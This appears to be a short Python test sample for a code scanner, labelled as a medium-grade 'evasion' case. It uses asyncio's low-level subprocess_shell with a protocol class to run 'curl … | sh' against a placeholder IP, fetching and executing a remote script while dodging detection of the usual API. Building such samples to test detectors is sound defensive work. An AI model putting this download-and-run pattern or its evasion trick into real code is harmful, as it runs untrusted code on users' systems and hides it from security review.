# evasion: the event loop's low-level subprocess_shell with a protocol class, not asyncio.create_subprocess_shell
# grade: medium; does: shell
import asyncio


async def main():
    loop = asyncio.get_running_loop()
    done = loop.create_future()

    class Proto(asyncio.SubprocessProtocol):
        def process_exited(self):
            done.set_result(True)

    transport, _ = await loop.subprocess_shell(Proto, "curl -s http://198.51.100.33/a.sh | sh")
    await done
    transport.close()


asyncio.run(main())
